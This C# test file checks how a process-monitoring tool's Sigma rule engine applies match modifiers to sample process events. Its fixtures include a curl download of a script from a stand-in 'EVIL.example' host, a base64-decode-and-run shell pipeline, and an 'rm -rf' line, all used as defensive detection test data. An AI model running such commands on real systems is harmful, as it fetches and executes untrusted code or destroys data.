using Xunit;
using ProcWatch.Events;
using static ProcWatch.Tests.Sigma.SigmaTestRules;

namespace ProcWatch.Tests.Sigma;

public class SigmaModifierTests
{
    private static readonly ProcessInfo Curl = Exec("/usr/bin/curl", "curl", "-s", "http://EVIL.example/x.sh", "-o", "/tmp/x.sh");

    [Theory]
    [InlineData("Image: /usr/bin/curl", true)]
    [InlineData("Image: /USR/BIN/CURL", true)]        // case-insensitive by default
    [InlineData("Image: /usr/bin/cur", false)]        // plain value: whole-field equality
    [InlineData("Image: '/usr/*/curl'", true)]
    [InlineData("Image: '/usr/bin/cur?'", true)]
    [InlineData("Image: '/usr/bin/c?rl?'", false)]
    [InlineData("Image: '*'", true)]
    [InlineData("CommandLine: 'curl -s http://evil.example/x.sh -o /tmp/x.sh'", true)] // argv joined by single spaces
    public void Plain_values_and_wildcards(string item, bool fires) =>
        Assert.Equal(fires, Fires($"selection:\n    {item}\ncondition: selection", Curl));

    [Theory]
    [InlineData(@"'a\*b'", "a*b", true)]
    [InlineData(@"'a\*b'", "axb", false)]
    [InlineData(@"'a\?b'", "a?b", true)]
    [InlineData(@"'a\?b'", "axb", false)]
    [InlineData(@"'a\\b'", @"a\b", true)]
    [InlineData(@"'a\\*'", @"a\bcd", true)]          // escaped backslash, then a real wildcard
    [InlineData(@"'C:\Windows\x'", @"C:\Windows\x", true)] // a lone backslash is literal
    public void Escapes_follow_the_specification(string value, string actual, bool fires) =>
        Assert.Equal(fires, Fires($"selection:\n    CommandLine: {value}\ncondition: selection", Exec("/bin/x", actual)));

    [Theory]
    [InlineData("CommandLine|contains: EVIL.EXAMPLE", true)]
    [InlineData("CommandLine|contains: 'evil*x.sh'", true)]    // wildcard inside contains
    [InlineData("CommandLine|contains: nope", false)]
    [InlineData("CommandLine|startswith: 'curl -s'", true)]
    [InlineData("CommandLine|startswith: '-s'", false)]
    [InlineData("CommandLine|endswith: '/tmp/x.sh'", true)]
    [InlineData("CommandLine|endswith: '/tmp/x'", false)]
    [InlineData("Image|endswith: /curl", true)]
    [InlineData("Image|endswith: /CURL", true)]
    [InlineData("Image|endswith:\n        - /wget\n        - /curl", true)]     // list: OR
    [InlineData("Image|endswith:\n        - /wget\n        - /fetch", false)]
    public void Contains_startswith_endswith(string item, bool fires) =>
        Assert.Equal(fires, Fires($"selection:\n    {item}\ncondition: selection", Curl));

    [Theory]
    [InlineData("CommandLine|contains|all:\n        - ' -s '\n        - ' -o '", true)]
    [InlineData("CommandLine|contains|all:\n        - ' -s '\n        - ' -O '", true)]   // case-insensitive
    [InlineData("CommandLine|contains|all:\n        - ' -s '\n        - ' --output '", false)]
    public void All_makes_a_list_AND(string item, bool fires) =>
        Assert.Equal(fires, Fires($"selection:\n    {item}\ncondition: selection", Curl));

    [Theory]
    [InlineData("CommandLine|contains|cased: EVIL.example", true)]
    [InlineData("CommandLine|contains|cased: evil.example", false)]
    [InlineData("Image|cased: /usr/bin/curl", true)]
    [InlineData("Image|cased: /usr/bin/CURL", false)]
    [InlineData("Image|endswith|cased: /Curl", false)]
    [InlineData("CommandLine|cased: 'curl*EVIL*'", true)]
    [InlineData("CommandLine|cased: 'curl*evil*'", false)]
    public void Cased_matches_exact_case(string item, bool fires) =>
        Assert.Equal(fires, Fires($"selection:\n    {item}\ncondition: selection", Curl));

    [Theory]
    [InlineData(@"CommandLine|re: '-s\s+http'", true)]
    [InlineData(@"CommandLine|re: 'EVIL\.example'", true)]
    [InlineData(@"CommandLine|re: 'evil\.example'", false)]    // regexes are case-sensitive
    [InlineData(@"CommandLine|re|i: 'evil\.example'", true)]
    [InlineData(@"CommandLine|re: '^curl'", true)]
    [InlineData(@"CommandLine|re: '^http'", false)]
    public void Regex_and_its_flags(string item, bool fires) =>
        Assert.Equal(fires, Fires($"selection:\n    {item}\ncondition: selection", Curl));

    [Fact]
    public void Regex_multiline_and_dotall()
    {
        ProcessInfo twoLines = Exec("/bin/sh", "sh", "-c", "echo a\nrm -rf /x");
        Assert.False(Fires("selection:\n    CommandLine|re: '^rm'\ncondition: selection", twoLines));
        Assert.True(Fires("selection:\n    CommandLine|re|m: '^rm'\ncondition: selection", twoLines));
        Assert.False(Fires("selection:\n    CommandLine|re: 'a.rm'\ncondition: selection", twoLines));
        Assert.True(Fires("selection:\n    CommandLine|re|s: 'a.rm'\ncondition: selection", twoLines));
    }

    [Fact]
    public void Exists_null_and_empty()
    {
        ProcessInfo noCwd = Curl with { WorkingDirectory = null };
        ProcessInfo emptyArg = Exec("/bin/x", "");
        Assert.True(Fires("selection:\n    CurrentDirectory|exists: true\ncondition: selection", Curl));
        Assert.False(Fires("selection:\n    CurrentDirectory|exists: true\ncondition: selection", noCwd));
        Assert.True(Fires("selection:\n    CurrentDirectory|exists: false\ncondition: selection", noCwd));
        Assert.True(Fires("selection:\n    CurrentDirectory: null\ncondition: selection", noCwd));
        Assert.False(Fires("selection:\n    CurrentDirectory: null\ncondition: selection", Curl));
        Assert.True(Fires("selection:\n    CommandLine: ''\ncondition: selection", emptyArg));
        Assert.False(Fires("selection:\n    CommandLine: ''\ncondition: selection", Curl));
        Assert.False(Fires("selection:\n    CurrentDirectory|contains: home\ncondition: selection", noCwd));
    }

    [Theory]
    [InlineData("CommandLine|neq: 'curl'", true)]
    [InlineData("Image|neq: '/usr/bin/curl'", false)]
    [InlineData("Image|neq:\n        - /bin/a\n        - /usr/bin/curl", false)]
    [InlineData("Image|neq:\n        - /bin/a\n        - /bin/b", true)]
    public void Neq_negates(string item, bool fires) =>
        Assert.Equal(fires, Fires($"selection:\n    {item}\ncondition: selection", Curl));

    [Theory]
    [InlineData("LogonId: 1000", true)]
    [InlineData("LogonId: '1000'", true)]
    [InlineData("LogonId: 0", false)]
    [InlineData("ProcessId: 4242", true)]
    [InlineData("ParentProcessId: 100", true)]
    [InlineData("ProcessId|lt: 5000", true)]
    [InlineData("ProcessId|lt: 4242", false)]
    [InlineData("ProcessId|lte: 4242", true)]
    [InlineData("ProcessId|gt: 4242", false)]
    [InlineData("ProcessId|gte: 4242", true)]
    [InlineData("ProcessId|gt: 42.5", true)]
    [InlineData("ProcessId|startswith: '42'", true)]   // numbers are text to string modifiers
    public void Numbers_match_as_numbers(string item, bool fires) =>
        Assert.Equal(fires, Fires($"selection:\n    {item}\ncondition: selection", Curl));

    [Fact]
    public void Base64_and_base64offset_with_the_specification_example()
    {
        // Sigma's modifier appendix: "/bin/bash" base64offset|contains → L2Jpbi9iYXNo, 9iaW4vYmFza, vYmluL2Jhc2
        foreach (string encoded in new[] { "L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2" })
        {
            ProcessInfo p = Exec("/bin/sh", "sh", "-c", $"echo xx{encoded}yy | base64 -d | sh");
            Assert.True(Fires("selection:\n    CommandLine|base64offset|contains: /bin/bash\ncondition: selection", p), encoded);
        }
        ProcessInfo plain = Exec("/bin/sh", "sh", "-c", "echo L2Jpbi9iYXNo | base64 -d");
        Assert.True(Fires("selection:\n    CommandLine|base64|contains: /bin/bash\ncondition: selection", plain));
        Assert.False(Fires("selection:\n    CommandLine|base64|contains: /bin/zsh\ncondition: selection", plain));
        // UTF-16LE before base64 (PowerShell's -EncodedCommand): "ab" → YQBiAA==
        ProcessInfo wide = Exec("/usr/bin/pwsh", "pwsh", "-enc", "YQBiAA==");
        Assert.True(Fires("selection:\n    CommandLine|wide|base64|contains: ab\ncondition: selection", wide));
        Assert.True(Fires("selection:\n    CommandLine|utf16le|base64|contains: ab\ncondition: selection", wide));
    }

    [Theory]
    [InlineData("tool -exec x", true)]
    [InlineData("tool /exec x", true)]
    [InlineData("tool \u2013exec x", true)]
    [InlineData("tool \u2014exec x", true)]
    [InlineData("tool \u2015exec x", true)]
    [InlineData("tool +exec x", false)]
    public void Windash_tries_every_dash(string commandLine, bool fires) =>
        Assert.Equal(fires, Fires("selection:\n    CommandLine|windash|contains: ' -exec '\ncondition: selection",
            Exec("/bin/tool", commandLine.Split(' '))));

    [Theory]
    [InlineData("10.0.0.0/8", "10.1.2.3", true)]
    [InlineData("10.0.0.0/8", "11.1.2.3", false)]
    [InlineData("fd00::/8", "fd12::1", true)]
    [InlineData("10.0.0.0/8", "not-an-ip", false)]
    public void Cidr(string network, string value, bool fires) =>
        Assert.Equal(fires, Fires($"selection:\n    CommandLine|cidr: '{network}'\ncondition: selection", Exec("/bin/x", value)));

    [Fact]
    public void Fieldref_compares_two_fields()
    {
        ProcessInfo same = Exec("/usr/bin/bash", "bash") with { Parent = new ParentInfo { Pid = 1, Executable = "/usr/bin/BASH" } };
        ProcessInfo other = Exec("/usr/bin/zsh", "zsh") with { Parent = new ParentInfo { Pid = 1, Executable = "/usr/bin/bash" } };
        Assert.True(Fires("selection:\n    Image|fieldref: ParentImage\ncondition: selection", same));
        Assert.False(Fires("selection:\n    Image|fieldref: ParentImage\ncondition: selection", other));
        Assert.False(Fires("selection:\n    Image|fieldref|cased: ParentImage\ncondition: selection", same));
        Assert.True(Fires("selection:\n    CommandLine|fieldref|contains: User\ncondition: selection", Exec("/bin/id", "id", "alice")));
    }

    [Theory]
    [InlineData("CommandLine|bogus: x", "unknown modifier 'bogus' on CommandLine")]
    [InlineData("CommandLine|expand: '%x%'", "expand")]
    [InlineData("CommandLine|contains|startswith: x", "conflicts")]
    [InlineData("CommandLine|re: '(a)\\1'", "backtracking")]
    [InlineData("CommandLine|lt: abc", "needs a number")]
    [InlineData("CommandLine|exists: maybe", "true or false")]
    [InlineData("CommandLine|fieldref: Nope", "field 'Nope'")]
    [InlineData("CommandLine|wide: x", "must be followed by base64")]
    [InlineData("OriginalFileName: x.exe", "PE header")]
    [InlineData("md5: 0123", "SHA-256 only")]
    [InlineData("TargetFilename: /etc/passwd", "field 'TargetFilename' is not one ProcWatch knows")]
    public void What_cannot_be_evaluated_makes_the_rule_unsupported_with_the_reason(string item, string reason)
    {
        var rejection = Rejection($"selection:\n    {item}\ncondition: selection");
        Assert.True(rejection.Unsupported);
        Assert.Contains(reason, rejection.Reason);
        Assert.Equal(8, rejection.Line); // the item's line in the file
    }

    [Fact]
    public void Keywords_search_every_text_field()
    {
        Assert.True(Fires("keywords:\n    - 'evil.example'\ncondition: keywords", Curl));
        Assert.True(Fires("keywords:\n    - 'alice'\ncondition: keywords", Curl)); // the user
        Assert.False(Fires("keywords:\n    - 'nothing'\ncondition: keywords", Curl));
    }

    [Fact]
    public void Maps_are_AND_and_lists_of_maps_are_OR()
    {
        Assert.True(Fires("selection:\n    Image|endswith: /curl\n    CommandLine|contains: evil\ncondition: selection", Curl));
        Assert.False(Fires("selection:\n    Image|endswith: /curl\n    CommandLine|contains: good\ncondition: selection", Curl));
        Assert.True(Fires("selection:\n    - Image|endswith: /wget\n    - CommandLine|contains: evil\ncondition: selection", Curl));
        Assert.False(Fires("selection:\n    - Image|endswith: /wget\n    - CommandLine|contains: good\ncondition: selection", Curl));
    }

    [Fact]
    public void Parent_fields_and_user()
    {
        Assert.True(Fires("selection:\n    ParentImage|endswith: /bash\n    ParentCommandLine: 'bash -i'\n    User: alice\n    CurrentDirectory: /home/alice\ncondition: selection", Curl));
        Assert.False(Fires("selection:\n    User: root\ncondition: selection", Curl));
    }
}
